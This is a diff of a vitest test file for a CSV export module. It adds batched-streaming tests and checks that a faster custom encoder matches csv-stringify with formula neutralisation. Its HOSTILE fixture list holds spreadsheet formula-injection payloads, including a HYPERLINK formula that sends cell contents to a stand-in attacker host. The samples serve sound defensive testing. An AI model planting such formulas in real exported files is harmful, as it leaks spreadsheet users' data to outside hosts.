@@ -1,6 +1,7 @@
 import { describe, expect, it } from "vitest";
 import { parse } from "csv-parse/sync";
-import { CHUNK_ROWS, csvDownload, localTime, stampedCsvName } from "./csv";
+import { stringify } from "csv-stringify/sync";
+import { CHUNK_ROWS, csvDownload, csvText, inBatches, localTime, neutralise, stampedCsvName } from "./csv";
 
 const HOSTILE = [
   '=HYPERLINK("https://evil.example?"&A1,"open")',
@@ -15,9 +16,11 @@ const HOSTILE = [
 
 async function cells(rows: unknown[][], stream: boolean): Promise<string[][]> {
   const source = stream
-    ? (async function* () {
-        yield* rows;
-      })()
+    ? inBatches(
+        (async function* () {
+          yield* rows;
+        })(),
+      )
     : rows;
   const text = await csvDownload(
     source,
@@ -50,7 +53,7 @@ describe("csvDownload, streamed", () => {
         yield [i, "x".repeat(60)];
       }
     }
-    const reader = csvDownload(rows(), ["n", "s"], "t.csv").body!.getReader();
+    const reader = csvDownload(inBatches(rows()), ["n", "s"], "t.csv").body!.getReader();
     await reader.read();
     // Give a read-ahead every chance to run before looking.
     await new Promise((resolve) => setTimeout(resolve, 300));
@@ -62,9 +65,70 @@ describe("csvDownload, streamed", () => {
     async function* rows(n: number) {
       for (let i = 0; i < n; i++) yield [i];
     }
-    const text = await csvDownload(rows(2 * CHUNK_ROWS + 7), ["n"], "t.csv").text();
+    const text = await csvDownload(inBatches(rows(2 * CHUNK_ROWS + 7)), ["n"], "t.csv").text();
     expect(text.split("\n")).toEqual(["n", ...Array.from({ length: 2 * CHUNK_ROWS + 7 }, (_, i) => String(i)), ""]);
-    expect(await csvDownload(rows(0), ["n"], "t.csv").text()).toBe("n\n");
+    expect(await csvDownload(inBatches(rows(0)), ["n"], "t.csv").text()).toBe("n\n");
+  });
+
+  it("skips empty batches: each chunk has rows, and none is lost", async () => {
+    async function* batches() {
+      yield [];
+      yield [[1], [2]];
+      yield [];
+      yield [];
+      yield [[3]];
+      yield [];
+    }
+    const reader = csvDownload(batches(), ["n"], "t.csv").body!.getReader();
+    const chunks: string[] = [];
+    for (let r = await reader.read(); !r.done; r = await reader.read()) chunks.push(new TextDecoder().decode(r.value));
+    expect(chunks).toEqual(["n\n1\n2\n", "3\n"]);
+  });
+});
+
+describe("csvText", () => {
+  it("writes what csv-stringify wrote (with neutralise), cell for cell, for every kind of value", () => {
+    // The encoder replaced csv-stringify for speed (issue 36): the files must not change.
+    const nasty = [
+      "",
+      " ",
+      ",",
+      '"',
+      '""',
+      "a,b",
+      'say "hi"',
+      "line\nbreak",
+      "cr\rhere",
+      "crlf\r\n",
+      "tab\tin",
+      "ünï 中文",
+    ];
+    const values: unknown[] = [
+      ...nasty,
+      ...HOSTILE,
+      ...nasty.map((n) => `=${n}`),
+      "-12.50",
+      "-",
+      "-x",
+      0,
+      -7,
+      1.5,
+      Number.NaN,
+      12345678901234567890n,
+      true,
+      false,
+      null,
+      undefined,
+      new Date("2026-11-28T07:00:00.123Z"),
+      { a: 1, b: "x,y" },
+      ["p", "q"],
+    ];
+    const records = [values, values.slice().reverse(), [], [""], [null]];
+    expect(csvText(records)).toBe(stringify(records, { cast: { string: neutralise } }));
+    // With a header, as csvDownload writes it: each record as long as the header.
+    const header = ["a", "b,c", 'd"e'];
+    const three = [values.slice(0, 3), values.slice(12, 15), values.slice(-3)];
+    expect(csvText(three, header)).toBe(stringify(three, { header: true, columns: header, cast: { string: neutralise } }));
   });
 });
 
